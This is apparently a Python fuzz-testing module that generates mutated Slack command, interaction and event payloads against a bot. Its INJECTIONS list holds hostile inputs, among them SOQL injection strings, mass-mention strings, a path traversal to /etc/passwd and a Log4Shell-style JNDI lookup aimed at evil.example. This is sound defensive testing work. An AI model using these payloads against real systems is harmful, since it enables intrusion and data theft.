"""Hostile Slack payloads: valid templates for every surface, then mutated by hypothesis.

Templates come from what the app registers (every ``ActionId``, every ``CallbackId``, every
subcommand, every event the manifest subscribes to), so a new listener is fuzzed without
touching this file. Mutations delete keys, swap in values of the wrong type, huge or odd
unicode strings, and SOQL, mrkdwn and mention injections.
"""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import yaml
from hypothesis import strategies as st

from bot.sandbox.stage import Stage
from handlers.command_text import Subcommand
from handlers.ids import ActionId, CallbackId
from handlers.views.metadata import ModalRef

JsonDict = dict[str, Any]
FORM = "application/x-www-form-urlencoded"
MANIFEST = Path(__file__).resolve().parents[2] / "app-manifest.yml"

INJECTIONS = (
    "' OR Username != '",
    "\\' OR IsActive = true OR Username = '",
    "x%' OR Name LIKE '%",
    "R-ABCD2345' OR '1'='1",
    "*bold* _italic_ ~strike~ `code` ```block```",
    "<!channel> <!here> <!everyone> @channel @here",
    "<@U0OMAR> <#C0APPROVALS|approvals> <!subteam^S123>",
    "<https://evil.example/login|Open Salesforce>",
    "&lt;b&gt; &amp;amp; <b>html</b>",
    "> quoted\n>>> everything below is quoted",
    "\u202eevil\u202c \u2066isolate\u2069",
    "\x00\x01\x1b[31mred\x7f",
    "Zoë 🙂 \U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594 ﷽ 漢字 \U0010ffff",
    '{"request_id": "R-AAAAAAAA"}',
    "null",
    "../../../../etc/passwd",
    "%s%s%n ${jndi:ldap://evil.example/a}",
    " ",
    "",
)
_REPEATED = ("A", "é", "🙂", "<", "*", "'", "\n")


def hostile_text() -> st.SearchStrategy[str]:
    """Injection samples, random unicode, and strings up to 15 000 characters.

    Long enough to break every Block Kit limit, short enough that bodies stay under 1 MB.
    """
    huge = st.builds(
        lambda unit, count: unit * count, st.sampled_from(_REPEATED), st.integers(1, 15_000)
    )
    return st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=300), huge)


def junk() -> st.SearchStrategy[Any]:
    """Any JSON value: the wrong type for whatever field it lands in."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(),
    )
    return st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
        ),
        max_leaves=6,
    )


@dataclass(frozen=True)
class Context:
    """Real ids the templates point at, so mutated payloads reach deep into the listeners."""

    users: tuple[str, ...]
    request_ids: tuple[str, ...]
    modal: JsonDict
    dm_channel: Callable[[str], str]


@dataclass(frozen=True)
class Target:
    """One kind of request the app serves."""

    name: str
    kind: str  # "command", "interaction" or "event"
    build: Callable[[Stage, Context, str, str], JsonDict]

    def encode(self, payload: JsonDict) -> tuple[bytes, str]:
        """The HTTP body and content type Slack would send for ``payload``."""
        if self.kind == "command":
            form = {k: v if isinstance(v, str) else json.dumps(v) for k, v in payload.items()}
            return urlencode(form).encode(), FORM
        if self.kind == "interaction":
            return urlencode({"payload": json.dumps(payload)}).encode(), FORM
        return json.dumps(payload).encode(), "application/json"


def _user_ref(stage: Stage, user_id: str) -> JsonDict:
    return {"id": user_id, "username": "someone", "name": "someone", "team_id": stage.slack.team_id}


def _common(stage: Stage, kind: str, user_id: str) -> JsonDict:
    return {
        "type": kind,
        "user": _user_ref(stage, user_id),
        "api_app_id": stage.slack.app_id,
        "token": "sandbox-verification",
        "team": {"id": stage.slack.team_id, "domain": stage.slack.team_domain},
        "enterprise": None,
        "is_enterprise_install": False,
    }


def _command(text: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        channel = ctx.dm_channel(user_id)
        return {
            "token": "sandbox-verification",
            "team_id": stage.slack.team_id,
            "team_domain": stage.slack.team_domain,
            "channel_id": channel,
            "channel_name": "directmessage",
            "user_id": user_id,
            "user_name": "someone",
            "command": stage.runtime.deps.config.command,
            "text": text.replace("{value}", value),
            "api_app_id": stage.slack.app_id,
            "is_enterprise_install": "false",
            "response_url": stage.slack.issue_response_url(user_id, channel, ephemeral=True),
            "trigger_id": stage.slack.issue_trigger(user_id),
        }

    return build


def _message_action(action_id: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        channel = ctx.dm_channel(user_id)
        ts = f"{time.time():.6f}"
        payload = _common(stage, "block_actions", user_id)
        payload |= {
            "container": {
                "type": "message",
                "message_ts": ts,
                "channel_id": channel,
                "is_ephemeral": False,
            },
            "trigger_id": stage.slack.issue_trigger(user_id),
            "channel": {"id": channel, "name": "directmessage"},
            "message": {"type": "message", "ts": ts, "text": "…", "blocks": []},
            "state": {"values": {}},
            "response_url": stage.slack.issue_response_url(user_id, channel, ts),
            "actions": [
                {
                    "type": "button",
                    "action_id": action_id,
                    "block_id": "fuzz",
                    "value": value,
                    "action_ts": ts,
                }
            ],
        }
        return payload

    return build


def _modal(ctx: Context, callback_id: str, value: str) -> JsonDict:
    view = copy.deepcopy(ctx.modal)
    view["callback_id"] = callback_id
    view["private_metadata"] = ModalRef(request_id=value[:100] or None).dump()
    return view


def _view_action(action_id: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        view = _modal(ctx, str(ctx.modal.get("callback_id")), value)
        payload = _common(stage, "block_actions", user_id)
        payload |= {
            "container": {"type": "view", "view_id": view.get("id")},
            "trigger_id": stage.slack.issue_trigger(user_id),
            "view": view,
            "actions": [
                {
                    "type": "static_select",
                    "action_id": action_id,
                    "block_id": "fuzz",
                    "selected_option": {
                        "text": {"type": "plain_text", "text": value[:75] or "-"},
                        "value": value,
                    },
                    "value": value,
                    "action_ts": f"{time.time():.6f}",
                }
            ],
        }
        return payload

    return build


def _suggestion(action_id: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        view = _modal(ctx, str(ctx.modal.get("callback_id")), value)
        payload = _common(stage, "block_suggestion", user_id)
        payload |= {
            "container": {"type": "view", "view_id": view.get("id")},
            "action_id": action_id,
            "block_id": "fuzz",
            "value": value,
            "view": view,
        }
        return payload

    return build


def _submission(callback_id: str, kind: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        payload = _common(stage, kind, user_id)
        payload |= {"view": _modal(ctx, callback_id, value)}
        if kind == "view_submission":
            payload |= {"trigger_id": stage.slack.issue_trigger(user_id), "response_urls": []}
        else:
            payload["is_cleared"] = False
        return payload

    return build


def _event(event_type: str) -> Callable[[Stage, Context, str, str], JsonDict]:
    def build(stage: Stage, ctx: Context, user_id: str, value: str) -> JsonDict:
        event: JsonDict = {"type": event_type, "event_ts": f"{time.time():.6f}"}
        if event_type == "user_change":
            event["user"] = {
                "id": user_id,
                "name": value,
                "deleted": True,
                "real_name": value,
                "profile": {"email": value, "real_name": value},
            }
        else:
            event |= {"user": user_id, "channel": ctx.dm_channel(user_id), "tab": "home"}
        return {
            "token": "sandbox-verification",
            "team_id": stage.slack.team_id,
            "api_app_id": stage.slack.app_id,
            "event": event,
            "type": "event_callback",
            "event_id": f"Ev{time.monotonic_ns()}",
            "event_time": int(time.time()),
            "authorizations": [
                {"team_id": stage.slack.team_id, "user_id": stage.slack.bot_user_id, "is_bot": True}
            ],
        }

    return build


def subscribed_events() -> list[str]:
    """The bot events the app manifest subscribes to (Slack sends no others)."""
    manifest = yaml.safe_load(MANIFEST.read_text(encoding="utf-8"))
    return list(manifest["settings"]["event_subscriptions"]["bot_events"])


def targets() -> list[Target]:
    """Every command form, action, view and subscribed event the app may receive."""
    found = [Target("command:(empty)", "command", _command(""))]
    found += [Target(f"command:{s}", "command", _command(f"{s} {{value}}")) for s in Subcommand]
    found.append(Target("command:mention", "command", _command("<@{value}>")))
    found.append(Target("command:unknown", "command", _command("{value}")))
    for action in ActionId:
        found.append(Target(f"message_action:{action}", "interaction", _message_action(action)))
        found.append(Target(f"view_action:{action}", "interaction", _view_action(action)))
        found.append(Target(f"suggestion:{action}", "interaction", _suggestion(action)))
    for callback in CallbackId:
        found.append(
            Target(f"submit:{callback}", "interaction", _submission(callback, "view_submission"))
        )
        found.append(
            Target(f"closed:{callback}", "interaction", _submission(callback, "view_closed"))
        )
    found += [Target(f"event:{e}", "event", _event(e)) for e in subscribed_events()]
    return found


def paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every key path inside a JSON value (the value itself first)."""
    yield prefix
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from paths(inner, (*prefix, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from paths(inner, (*prefix, index))


def mutate(payload: JsonDict, path: tuple[Any, ...], op: str, replacement: Any) -> JsonDict:
    """``payload`` with the value at ``path`` deleted or replaced (a copy)."""
    if not path:
        return payload if op == "delete" or not isinstance(replacement, dict) else replacement
    result = copy.deepcopy(payload)
    parent: Any = result
    for key in path[:-1]:
        parent = parent[key]
    last = path[-1]
    if op == "delete":
        del parent[last]
    else:
        parent[last] = replacement
    return result


@st.composite
def hostile_payload(draw: st.DrawFn, template: JsonDict) -> tuple[JsonDict, list[str]]:
    """``template`` with up to four deletions or replacements; returns it and what changed."""
    payload = template
    changes: list[str] = []
    for _ in range(draw(st.integers(0, 4))):
        path = draw(st.sampled_from(list(paths(payload))))
        op = draw(st.sampled_from(("delete", "junk", "text")))
        replacement = draw(junk() if op == "junk" else hostile_text())
        payload = mutate(payload, path, op, replacement)
        changes.append(f"{op} {'.'.join(map(str, path)) or '<root>'}")
    return payload, changes
